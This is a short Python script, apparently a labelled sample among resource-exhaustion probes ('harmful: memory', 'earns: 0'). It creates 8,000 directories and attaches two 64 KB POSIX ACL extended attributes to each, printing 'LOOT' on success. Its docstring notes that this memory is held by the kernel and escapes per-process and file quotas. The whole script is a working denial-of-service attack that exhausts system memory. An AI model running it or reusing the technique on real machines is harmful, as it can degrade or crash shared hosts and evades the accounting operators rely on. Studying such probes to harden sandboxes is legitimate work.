"""Gives thousands of folders access lists of 64 KB each, twice.

They are in the system's memory, and no process's; nor do they count as files. Bounded by
itself at 1 GB.

earns: 0
harmful: memory
"""

# %%
import os
import struct

entries = [(1, 7, 2**32 - 1), *[(2, 7, 1000)] * 8000]
entries += [(kind, 7, 2**32 - 1) for kind in (4, 0x10, 0x20)]
rules = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in entries)
given = 0
try:
    for number in range(8000):
        os.mkdir(f"/scratch/tmp/{number}")
        for kind in ("access", "default"):
            name = f"system.posix_acl_{kind}"
            os.setxattr(f"/scratch/tmp/{number}", name, rules)
            given += 1
except OSError as error:
    print(error)
print("LOOT" if given else "refused")
